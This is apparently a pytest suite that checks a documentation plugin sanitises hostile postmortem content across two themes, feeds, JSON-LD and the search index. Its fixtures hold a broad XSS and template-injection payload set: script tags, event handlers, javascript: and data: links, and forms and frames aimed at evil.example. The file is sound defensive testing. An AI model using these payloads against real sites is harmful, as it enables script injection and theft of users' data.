"""What a hostile author writes runs nowhere; what an honest one writes survives."""

from __future__ import annotations

import json
import re
from xml.etree import ElementTree as ET

import frontmatter
import pytest

from tests.site.project import EXTENSIONS, build, postmortem, write
from tests.site.web import Element, Page, Site

DATA = "application/ld+json"
ATOM = "{http://www.w3.org/2005/Atom}"

TITLE = "a | b <script>pwn()</script> </title><script>pwn()</script> ](javascript:pwn) {{ 7*7 }}"
LESSON = "c | d <img src=x onerror=pwn()> ](javascript:pwn) {{ 6*7 }} <script>pwn()</script>"
FIELD = "<script>pwn()</script> [x](javascript:pwn) | </td> \"' onclick=pwn() {{ 7*7 }}"
BODY = (
    """
## Summary

Words <script>pwn()</script> and <SCRIPT SRC="https://evil.example/pwn.js"></SCRIPT> of a summary.

## Impact <svg onload=pwn()><img src=x onerror=pwn()>

<p onclick="pwn()">paragraph that stays</p>
<a href="javascript:pwn()">script link</a>
<a href="JaVa&#115;cript:pwn()">odd script link</a>
<a href="data:text/html,<script>pwn()</script>">data link</a>
[markdown link](javascript:pwn()) and [another](vbscript:pwn) and <javascript:pwn()>

<iframe src="https://evil.example/pwn"></iframe>
<object data="https://evil.example/pwn"></object><embed src="https://evil.example/pwn">
<style>body { background: url(https://evil.example/pwn) }</style>
<link rel="stylesheet" href="https://evil.example/pwn.css">
<form action="https://evil.example/pwn"><input type="password" name="pwn" autofocus onfocus="pwn()">
<button formaction="javascript:pwn()">press</button></form>
<base href="https://evil.example/pwn/">
<meta http-equiv="refresh" content="0; url=https://evil.example/pwn">
<svg onload="pwn()"><a xlink:href="javascript:pwn()"><text>svg</text></a><script>pwn()</script></svg>
<math><mtext><script>pwn()</script></mtext></math>
<div style="position:fixed;inset:0;background:url(https://evil.example/pwn)">overlay</div>
<textarea><script>pwn()</script></textarea><noscript><p title="</noscript><script>pwn()</script>">

attributes of a list{: onclick="pwn()" style="position:fixed" }

# Heading {: #x onclick="pwn()" }

![image](x.png){: onerror="pwn()" }

<!-- a comment --><details open ontoggle="pwn()"><summary>sum</summary></details>

## What went wrong

- [rollback] """
    + LESSON
    + """ → A1

## Where we got lucky

- [timing] """
    + LESSON
    + """

## Timeline

- 10:00 [started] It <script>pwn()</script> begins
- 10:14 [detected] <img src=x onerror=pwn()> Page

![alt " onerror=pwn() <script>pwn()</script>](x.png "title <script>pwn()</script>")

*Figure 1 <script>pwn()</script> <b onclick=pwn()>bold</b>*

<figure class="pm-course pm-figure"><svg onload=pwn()><a xlink:href="javascript:pwn()"><circle r="9"/></a></svg></figure>

<div class="pm-details" data-here="<img src=x onerror=pwn()>" data-copied="pwn" onclick="pwn()">details of an author</div>
<a class="pm-lesson" data-kind="pwn" href="javascript:pwn()">mark</a>

## Action items

| Id | Action | Ticket |
|:--|:--|:--|
| A1 | Do it | PAY-"><script>pwn()</script> |
"""
)

ACTING = ("iframe", "object", "embed", "style", "link", "base", "meta", "math")
ACTING += ("form", "button", "textarea")

HONEST = """
## Summary

<details><summary>More</summary><p>inside</p></details>

Press <kbd>Ctrl</kbd>, 10<sup>3</sup>, H<sub>2</sub>O, <mark>marked</mark>, <abbr title="A">a</abbr>.

- [x] done
- [ ] open

```python
def f():
    return "`<b>`"
```

!!! warning "Mind"
    An admonition.

??? note "Folded"
    Details of a block.

| Left | Right |
|:--|--:|
| a | b |

A foot note.[^1]

[^1]: Its text.

![diagram](diagram.png){: width="40" }

<table><tr><td colspan="2" align="right">cell</td></tr></table>
"""

MEASURES = ("customers", "requests", "slo", "revenue", "data_loss", "operational")
LENGTH = re.compile(r"(?:\d+ (?:s|min|h|d) ?)+")


@pytest.fixture(scope="module", params=["material", "mkdocs"])
def site(request, tmp_path_factory) -> Site:
    files = {
        "postmortems/services.yml": json.dumps(
            [{"id": "shop", "name": f"Shop {FIELD}"}, {"id": "mail", "name": "Mail"}]
        ),
        "postmortems/settings.yml": (
            "tickets: {PAY-: 'https://tracker.example/{id}'}\ndiscuss: https://chat.example/{id}\n"
        ),
        "postmortems/2024/2024-05-02-hostile.md": postmortem(
            BODY,
            title=TITLE,
            owner=FIELD,
            authors=[FIELD],
            tracker_ids=[f"PAY-{FIELD}"],
            links=[{"label": FIELD, "url": "https://example.org/{{ 7*7 }}"}],
            imported_from={"source": FIELD},
            detected_at="2024-05-02T10:14:00+00:00",
            impact=dict.fromkeys(MEASURES, FIELD) | {"summary": FIELD, "regions": [FIELD]},
            sources=[{"title": FIELD, "url": 'https://example.org/"><script>pwn()</script>'}],
        ),
        "postmortems/2024/2024-05-02-honest/index.md": postmortem(
            HONEST, title="Honest", services=["mail"]
        ),
        "postmortems/2024/2024-05-02-honest/diagram.png": b"\x89PNG",
        "postmortems/2024/2024-05-03-draft.md": postmortem(
            title=TITLE, status="draft", started_at="2024-05-03T10:00:00Z", resolved_at=None
        ),
        "docs/index.md": "# Home\n\n{{ postmortem_newest() }}\n\n{{ postmortem_table() }}\n\n"
        "{{ postmortem_trend() }}\n\n{{ postmortem_luck() }}\n",
    }
    root = write(
        tmp_path_factory.mktemp("hostile"),
        files,
        theme={"name": request.param, "font": False, "highlightjs": False},
        plugins=["search", "postmortems", "macros"],
        markdown_extensions=EXTENSIONS,
    )
    return Site(build(root, strict=False))


@pytest.fixture
def hostile(site) -> Page:
    return site.page("postmortems/2024-05-02-hostile")


@pytest.fixture
def honest(site) -> Page:
    return site.page("postmortems/2024-05-02-honest")


def test_no_script_comes_from_an_author(site, honest):
    """Every page has exactly the scripts that the theme puts on every page; data is no script."""
    expected = len(_scripts(honest))
    for page in site.pages.values():
        scripts = _scripts(page)
        assert not [one for one in scripts if "pwn" in one.text + one.attributes.get("src", "")]
        if page.path not in {"404.html", "search.html"}:
            assert len(scripts) == expected, page.path


def _scripts(page: Page) -> list[Element]:
    return [one for one in page.root.all("script") if one.attributes.get("type") != DATA]


def test_the_title_cannot_leave_the_data_of_its_page(hostile):
    """JSON-LD holds the very words of the title, and ends where we end it."""
    (data,) = [one for one in hostile.root.all("script") if one.attributes.get("type") == DATA]

    assert json.loads(data.text)["headline"] == TITLE
    assert json.loads(data.text)["@type"] == "TechArticle"


def test_heads_and_feeds_hold_the_title_as_text(site, hostile):
    """Open Graph, feeds, Markdown and llms.txt are read by programs that take it for words."""
    meta = {one.attributes.get("property"): one.attributes for one in hostile.root.all("meta")}
    (entry,) = [
        one
        for one in ET.fromstring(site.bytes_of["feed.xml"]).iter(f"{ATOM}entry")
        if "hostile" in one.findtext(f"{ATOM}id", "")
    ]
    (item,) = [
        one for one in json.loads(site.bytes_of["feed.json"])["items"] if "hostile" in one["id"]
    ]
    markdown = site.bytes_of["postmortems/2024-05-02-hostile/index.md"].decode()

    assert meta["og:title"]["content"] == TITLE
    assert entry.findtext(f"{ATOM}title") == TITLE
    assert "<script" not in entry.findtext(f"{ATOM}summary", "")
    assert item["title"] == TITLE
    assert frontmatter.loads(markdown)["title"] == TITLE
    assert "a | b \\<script\\>" in site.bytes_of["llms.txt"].decode()


def test_nothing_on_any_page_can_run_load_or_send(site):
    """No handler, odd scheme, frame, form or foreign address of an author is left, chrome included."""
    for page in site.pages.values():
        for one in page.root.walk():
            for name, value in one.attributes.items():
                assert not name.startswith("on"), (page.path, one.tag, name)
                if name in {"href", "src", "action", "formaction", "data", "xlink:href"}:
                    scheme = re.sub(r"[\s\x00]", "", value).partition(":")[0].lower()
                    assert scheme not in {"javascript", "vbscript", "data"}, (page.path, value)
                    assert "evil.example" not in value, (page.path, value)
        if page.path != "404.html":  # the theme's own, without a place for content
            boxes = page.main.all(of="pm-explore")
            ours = {id(one) for box in boxes for one in box.all("button")}
            assert not [x for x in page.main.all(*ACTING) if id(x) not in ours], page.path


def test_the_title_is_text_wherever_it_is_printed(site, hostile):
    """Title element, heading, every list, the navigation and macros show the very words."""
    assert hostile.root.all("title")[0].text.startswith(TITLE)
    assert hostile.main.all("h1")[0].text == TITLE
    shown = 0
    for page in site.pages.values():
        for link in page.links:
            target = site.resolve(page, link.attributes["href"]) or ""
            is_list = "hostile" in target and "#" not in link.attributes["href"]
            if is_list and link.text and "md-" not in link.attributes.get("class", ""):
                is_length = LENGTH.fullmatch(link.text)  # on a review
                assert link.text in {TITLE, "Edit this page"} or is_length, page.path
                shown += 1
    assert shown >= 8


def test_a_lesson_is_text_wherever_it_is_quoted(site):
    """Theme, luck and overview pages quote the words of a lesson, markup taken off or shown."""
    for address in ("trends/themes/rollback", "trends/luck", "trends", ""):
        text = site.page(address).main.text
        assert "c | d" in text, address
        assert "{{ 6*7 }}" in text, address
        assert "42" not in text, address


def test_fields_are_text_on_the_page(hostile):
    """Owner, impact and sources print what was written."""
    details = hostile.main.all(of="pm-details")[0]

    # Service, owner, tracker, link, and what the impact was.
    assert details.text.count(FIELD) == 4 + len(MEASURES) + 1
    (provenance,) = hostile.main.all(of="pm-provenance")
    assert provenance.text.count(FIELD) == 2  # the import's source, and who is cited
    assert "49" not in hostile.main.text


def test_the_body_keeps_its_words(hostile):
    """Cleaning takes away what acts, not what is said."""
    for words in ("paragraph that stays", "script link", "markdown link", "overlay", "sum"):
        assert words in hostile.main.text


def test_the_only_drawing_of_a_page_is_ours(hostile):
    """An author's own loses what is in it; links of the real one stay on the page."""
    drawings = [one for one in hostile.main.all("svg") if one.all("circle")]

    assert len(drawings) == 1
    links = [one.attributes["xlink:href"] for one in drawings[0].all("a")]
    assert links == ["#at-started", "#at-detected"]
    assert {link[1:] for link in links} <= set(hostile.ids)


def test_a_ticket_and_the_chat_have_one_place_in_an_address(hostile):
    """Whatever an id holds stays within it."""
    found = [one.attributes["href"] for one in hostile.links if "href" in one.attributes]
    ours = [one for one in found if one.startswith(("https://tracker.example", "https://chat"))]

    assert "https://chat.example/2024-05-02-hostile" in ours
    assert len([one for one in ours if one.startswith("https://tracker.example/PAY-%")]) >= 1
    assert all(one.count("/") == 3 for one in ours)


def test_the_search_index_holds_no_markup_of_an_author(site):
    """Material writes the index out as HTML, so no tag is in it; the plain theme's is plain text."""
    if "material" not in site.page("").html:
        return
    for entry in site.search_index:
        for value in (entry["title"], entry["text"]):
            assert not re.search(r"<(script|img|svg|iframe|a)\b", value), entry["location"]


def test_ordinary_html_and_markdown_survive(honest):
    """What authors use every day comes out as they wrote it."""
    main = honest.main
    for tag in ("details", "summary", "kbd", "sup", "sub", "mark", "abbr", "table", "img", "input"):
        assert main.all(tag), tag
    assert main.all(of="highlight")
    assert main.all("span", of="k")
    assert main.all(of="admonition")
    assert main.all(of="footnote")
    assert main.all("details", of="note")
    assert [one.attributes["disabled"] for one in main.all("input")] == ["", ""]
    assert ["checked" in one.attributes for one in main.all("input")] == [True, False]
    assert main.all("td")[-1].attributes == {"colspan": "2", "align": "right"}
    assert "right" in [one.attributes.get("align") for one in main.all("th")]
    assert main.all("img")[-1].attributes["width"] == "40"


def test_footnotes_link_both_ways(site, honest):
    """A footnote leads to its text and back."""
    assert not [one for one in site.broken_links() if one.startswith(honest.path)]
